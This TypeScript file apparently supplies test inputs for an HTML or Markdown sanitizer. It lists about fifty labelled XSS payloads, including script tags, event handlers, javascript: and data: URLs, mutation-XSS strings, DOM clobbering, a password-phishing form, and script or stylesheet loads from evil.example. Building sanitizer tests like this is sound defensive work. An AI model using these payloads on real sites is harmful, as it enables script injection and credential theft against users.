/** One attempt to get something to run, load or disguise itself. `live`: a browser that is given it as it is would fall for it. */
export interface Payload {
	readonly name: string
	readonly text: string
	readonly live: boolean
}

const live = (name: string, text: string): Payload => ({ name, text, live: true })
const inert = (name: string, text: string): Payload => ({ name, text, live: false })

/** One of each kind that is known, for checkouts without the large collection. */
export const payloads: readonly Payload[] = [
	live('script', '<script>alert(1)</script>'),
	live('script in capitals with a slash', '<SCRIPT/SRC="https://evil.example/x.js"></SCRIPT>'),
	live('script never closed', '<script>alert(1)//'),
	live('module', '<script type="module">import("https://evil.example/x.js")</script>'),
	live('image with an error', '<img src=x onerror=alert(1)>'),
	live('image with a slash before its handler', '<img/src="x"/onerror="alert(1)">'),
	live('picture of another site', '<img src="https://evil.example/pixel.gif" alt="">'),
	live('svg', '<svg onload=alert(1)>'),
	live('svg with a script', '<svg><script>alert(1)</script></svg>'),
	live('svg animation', '<svg><animate attributeName=href values=javascript:alert(1) /></svg>'),
	live('mathml', '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'),
	live('frame', '<iframe src="javascript:alert(1)"></iframe>'),
	live('frame with a document of its own', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
	live('object', '<object data="data:text/html,<script>alert(1)</script>"></object>'),
	live('embed', '<embed src="https://evil.example/x.swf">'),
	live('form', '<form action="https://evil.example/"><input name=password><button>OK</button></form>'),
	live('button with its own address', '<button formaction="javascript:alert(1)">x</button>'),
	live('base', '<base href="https://evil.example/">'),
	live('refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
	live('style sheet', '<link rel=stylesheet href="https://evil.example/x.css">'),
	live('style element', '<style>@import "https://evil.example/x.css"; body { display: none }</style>'),
	live('style attribute', '<p style="position:fixed;inset:0;background:url(javascript:alert(1))">x</p>'),
	live('handler on what is allowed', '<b onmouseover=alert(1)>x</b>'),
	live('handler that needs no user', '<details open ontoggle=alert(1)><summary>x</summary></details>'),
	live('link', '<a href="javascript:alert(1)">x</a>'),
	live('link with a tab in its scheme', '<a href="java\tscript:alert(1)">x</a>'),
	live('link with references in its scheme', '<a href="&#106;avascript&colon;alert(1)">x</a>'),
	live('link to a document of its own', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">x</a>'),
	live('visual basic', '<a href="vbscript:msgbox(1)">x</a>'),
	live('clobbering names', '<img name="body"><a id="document"></a><p id="__proto__">x</p>'),
	live('template', '<template><img src=x onerror=alert(1)></template>'),
	live('noscript and a title', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
	live(
		'mutation by namespaces',
		'<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
	),
	live('mutation by a select', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'),
	live('end of the data block', '</script><script>alert(1)</script>'),
	live('end of the style and the title', '</style></title><img src=x onerror=alert(1)>'),
	live('end of an attribute', '"><img src=x onerror=alert(1)>'),
	live('end of an apostrophed attribute', "'><svg onload=alert(1)>"),
	inert('markdown link', '[x](javascript:alert(1))'),
	inert('markdown link in references', '[x][y]\n\n[y]: <java&#x0A;script:alert(1)>'),
	inert('markdown autolink', '<javascript:alert(1)>'),
	inert(
		'markdown picture',
		'![x](javascript:alert(1)) ![y](https://evil.example/p.png) ![" onerror="alert(1)](lead.jpg)',
	),
	inert(
		'directive',
		'::embed{url="javascript:alert(1)" title="x"}\n\n:::pullquote{onclick="alert(1)" id="body"}\nx\n:::',
	),
	inert('end of CDATA', ']]><script>alert(1)</script>'),
	inert('comment', '<!-- --!><img src=x onerror=alert(1)> -->'),
	inert('handler in an end tag', '</p onclick=alert(1)><plaintext>'),
	inert('HTML that poses as our card', '<p class="embed"><a href="/x">x</a></p>\n\n<p class="embed"><b>x</b></p>'),
	inert(
		'HTML that poses as a photo of ours',
		'<img src="photo:other.jpg"> <img src="lead.jpg"> <img src="photo:lead.jpg" alt="x">',
	),
	inert(
		'HTML that poses as a footnote of ours',
		'<section data-footnotes><h2 id="x">x</h2><a href="javascript:alert(1)" data-footnote-backref>x</a></section><a data-footnote-ref id="fnref-constructor"><b>x</b></a>',
	),
	inert(
		'HTML that poses as parts of our page',
		'<div class="gallery notice masthead" id="content"><main><h1>x</h1></main></div>',
	),
]
